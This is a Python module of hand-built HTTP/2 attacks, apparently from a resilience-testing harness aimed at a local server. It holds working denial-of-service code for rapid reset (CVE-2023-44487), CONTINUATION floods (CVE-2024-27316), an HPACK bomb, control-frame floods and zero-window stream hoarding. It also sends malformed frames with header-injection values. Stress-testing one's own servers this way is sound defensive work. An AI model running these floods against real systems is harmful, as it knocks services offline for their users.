"""Attacks by HTTP/2 with prior knowledge: frames written by hand."""

import asyncio
import collections
import shutil
import socket as sockets

from peers import Through, attack, close, connect, many, request, send, token

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
#: RFC 9113, section 7.
ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
          "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
          "CONNECT_ERROR", "ENHANCE_YOUR_CALM"]
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def number(value, bits, first=0):
    """A number of HPACK (RFC 7541, section 5.1)."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = bytearray([first | most]), value - most
    while value > 127:
        out.append(value & 127 | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def text(value):
    return number(len(value), 7) + value


def field(name, value, first=0):
    return bytes([first]) + text(name) + text(value)


def get(path="/", *fields):
    """The fields of a GET, none of them indexed but the method and the scheme."""
    own = b"".join(field(name.encode(), value.encode()) for name, value in fields)
    return b"\x82\x86\x04" + text(path.encode()) + b"\x01" + text(b"127.0.0.1") + own


class Peer:
    """A connection of HTTP/2 whose client does as it likes."""

    def __init__(self, target, reader, writer):
        self.target, self.reader, self.writer = target, reader, writer
        self.stream, self.frames, self.end = -1, collections.Counter(), "open to the end"
        self.data = 0

    @classmethod
    async def open(cls, target, settings=b""):
        peer = await connect(target, alpn="h2")
        if peer is None:
            return None
        self = cls(target, *peer)
        self.writer.write(PREFACE + frame(SETTINGS, 0, 0, settings))
        self.listening = asyncio.create_task(self.listen())
        return self

    def next(self):
        self.stream += 2
        return self.stream

    async def send(self, data):
        """Writes as the other end takes it; false when it is gone."""
        try:
            self.writer.write(data)
            await asyncio.wait_for(self.writer.drain(), max(self.target.left(), 0.05))
            return not self.listening.done()
        except (OSError, TimeoutError):
            return False

    async def listen(self):
        try:
            while True:
                head = await self.reader.readexactly(9)
                payload = await self.reader.readexactly(int.from_bytes(head[:3]))
                kind = head[3]
                self.frames[kind] += 1
                if kind == SETTINGS and not head[4] & 1:
                    self.writer.write(frame(SETTINGS, 1, 0))
                elif kind == DATA:
                    self.data += len(payload)
                elif kind == GOAWAY:
                    code = int.from_bytes(payload[4:8])
                    self.end = f"GOAWAY {ERRORS[code] if code < len(ERRORS) else code}"
        except (EOFError, OSError):
            if not self.end.startswith("GOAWAY"):
                self.end = "cut off"

    async def over(self):
        """Waits for the end, or for the attack's, and counts what came."""
        await asyncio.wait([self.listening], timeout=max(self.target.left(), 0.05))
        self.listening.cancel()
        self.target.count(self.end)
        for kind, name in ((HEADERS, "responses"), (RST, "RST_STREAM")):
            if self.frames[kind]:
                self.target.count(name, self.frames[kind])
        close(self.writer)


async def pour(target, make, at_once=8, settings=b"", first=b""):
    """Connects again and again and sends what `make` says as fast as it is taken."""
    async def one(_):
        while target.left() > 0.3:
            peer = await Peer.open(target, settings)
            if peer is None:
                continue
            await peer.send(first)
            while target.left() > 0 and await peer.send(make(peer)):
                await asyncio.sleep(0)
            await peer.over()

    await many(at_once, one)


@attack("HTTP/2 rapid reset (CVE-2023-44487)", also=["tls"])
async def rapid_reset(target):
    head = get("/v1/poll?channel=a&wait=25", ("authorization", f"Bearer {token()}"))

    def make(peer):
        out = b""
        for _ in range(50):
            stream = peer.next()
            out += frame(HEADERS, END_STREAM | END_HEADERS, stream, head)
            out += frame(RST, 0, stream, (8).to_bytes(4))
        return out

    await pour(target, make)


@attack("HTTP/2 CONTINUATION flood (CVE-2024-27316)", also=["tls"])
async def continuation(target):
    def make(peer):
        if peer.stream < 0:
            return frame(HEADERS, 0, peer.next(), get())
        return frame(CONTINUATION, 0, peer.stream, field(b"x-a", b"a" * 4_000) * 4) * 4

    await pour(target, make)


@attack("HTTP/2 empty CONTINUATION frames without end")
async def empty_continuation(target):
    def make(peer):
        if peer.stream < 0:
            return frame(HEADERS, 0, peer.next(), get())
        return frame(CONTINUATION, 0, peer.stream) * 500

    await pour(target, make)


@attack("HTTP/2 floods of SETTINGS, PING, PRIORITY, WINDOW_UPDATE and empty DATA")
async def control(target):
    kinds = [
        lambda peer: frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff") * 200,
        lambda peer: frame(PING, 0, 0, b"01234567") * 200,
        lambda peer: frame(PRIORITY, 0, 1, b"\0\0\0\3\x10") * 200,
        lambda peer: frame(WINDOW, 0, 0, (1).to_bytes(4)) * 200,
        lambda peer: (frame(HEADERS, END_HEADERS, peer.next(), get()) if peer.stream < 0 else b"")
        + frame(DATA, 0, 1) * 200,
        lambda peer: frame(99, 0, 0, b"x" * 100) * 100,
    ]
    await asyncio.gather(*(pour(target, make, 2) for make in kinds))


@attack("HTTP/2 HPACK bomb: 4 KB named 4,000 times in a head")
async def hpack(target):
    large = field(b"x-a", b"a" * 4_000, 0x40)

    def make(peer):
        begin = frame(HEADERS, END_HEADERS | END_STREAM, peer.next(), get() + large)
        return begin + frame(HEADERS, END_HEADERS | END_STREAM, peer.next(), get() + b"\xbe" * 4_000)

    await pour(target, make)


async def large_pages(target):
    """A channel whose pages are as large as they may be."""
    body = b'{"payload":"' + b"x" * 60_000 + b'"}'
    head = [f"Authorization: Bearer {token()}", "Content-Type: application/json"]
    for _ in range(10):
        await send(target, request(target, "POST", "/v1/channels/large/messages", head, body), patience=0.05)


@attack("HTTP/2 pages of history that nobody reads: 100 connections of 128 streams, a window of 0")
async def unread(target):
    await large_pages(target)

    async def one(_):
        peer = await Peer.open(target, b"\0\4\0\0\0\0")
        if peer is None:
            return
        head = get("/v1/channels/large/messages?limit=1000", ("authorization", f"Bearer {token()}"))
        for _ in range(128):
            await peer.send(frame(HEADERS, END_STREAM | END_HEADERS, peer.next(), head))
        await peer.over()
        if peer.data:
            raise Through("data beyond the window")

    await many(100, one)


@attack("HTTP/2 pages of history that nobody reads: 20 connections of 128 streams, windows of 2 GB", also=["tls"])
async def unread_wide(target):
    await large_pages(target)
    most = (1 << 31) - 1
    begin = PREFACE + frame(SETTINGS, 0, 0, b"\0\4" + most.to_bytes(4))
    begin += frame(WINDOW, 0, 0, (most - 65_535).to_bytes(4))

    async def one(_):
        peer = await connect(target, alpn="h2", buffer=1 << 10)
        if peer is None:
            return
        peer[1].transport.pause_reading()
        peer[1].get_extra_info("socket").setsockopt(sockets.SOL_SOCKET, sockets.SO_RCVBUF, 4096)
        head = get("/v1/channels/large/messages?limit=5", ("authorization", f"Bearer {token()}"))
        asked = (frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, head) for n in range(128))
        peer[1].write(begin + b"".join(asked))
        await asyncio.sleep(max(target.left(), 0.05))
        target.count("not read from to the end")
        close(peer[1])

    await many(20, one)


@attack("HTTP/2 event streams: 128 on each of 40 connections of one user")
async def many_streams(target):
    async def one(_):
        peer = await Peer.open(target)
        if peer is None:
            return
        head = get("/v1/sse?channel=crowd", ("authorization", f"Bearer {token()}"))
        for _ in range(200):
            await peer.send(frame(HEADERS, END_STREAM | END_HEADERS, peer.next(), head))
        await peer.over()

    await many(40, one)


@attack("HTTP/2 requests as fast as they go, 100 connections of 100 streams", "h2load")
async def as_fast_as_it_goes(target):
    if shutil.which("h2load") is None:
        return target.count("left out: there is no h2load here")
    process = await asyncio.create_subprocess_exec(
        "h2load", "-c", "100", "-m", "100", "-D", str(round(target.seconds)), "-t", "1",
        f"http://127.0.0.1:{target.port}/v1/poll?channel=honest",
        stdin=asyncio.subprocess.DEVNULL, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT)
    out, _ = await process.communicate()
    for line in out.decode(errors="replace").splitlines():
        if line.startswith("status codes:"):
            for part in line.removeprefix("status codes: ").split(", "):
                count, kind = part.split()
                if count != "0":
                    target.count(f"HTTP {kind}", int(count))


@attack("HTTP/2 frames that must not be")
async def nonsense(target):
    shapes = [
        frame(DATA, 0, 0, b"x"), frame(HEADERS, 5, 0, get()), frame(HEADERS, 5, 2, get()),
        frame(RST, 0, 1, bytes(4)), frame(WINDOW, 0, 0, bytes(4)), frame(PING, 0, 0, b"x"),
        frame(SETTINGS, 0, 0, b"x"), frame(SETTINGS, 0, 1), frame(PUSH, 4, 1, bytes(8)),
        frame(CONTINUATION, 4, 1, get()), frame(GOAWAY, 0, 0, b"x"), frame(HEADERS, 5, 1, b"\xff" * 100),
        frame(WINDOW, 0, 0, (0x7FFFFFFF).to_bytes(4)) * 2, b"\xff" * 9 + b"x" * 1_000,
        frame(SETTINGS, 0, 0, b"\0\4\xff\xff\xff\xff"), frame(SETTINGS, 0, 0, b"\0\5\0\0\0\1"),
        frame(HEADERS, 5, 1, get("/", ("connection", "close"))),
        frame(HEADERS, 5, 1, get("/", ("transfer-encoding", "chunked"))),
        frame(HEADERS, 5, 1, get("/", ("content-length", "5"))),
        frame(HEADERS, 5, 1, get("/ HTTP/1.1\r\nX: y")), frame(HEADERS, 5, 1, get("/", ("X-Upper", "a"))),
        frame(HEADERS, 5, 1, get("/", ("x", "a\r\nb: c"))),
    ]

    async def one(at):
        while target.left() > 0.3:
            peer = await Peer.open(target)
            if peer is None:
                continue
            await peer.send(shapes[at % len(shapes)])
            at += 12
            await asyncio.wait([peer.listening], timeout=0.3)
            await peer.send(b"")
            peer.listening.cancel()
            target.count("answered" if peer.end == "open to the end" else peer.end)
            close(peer.writer)

    await many(12, one)
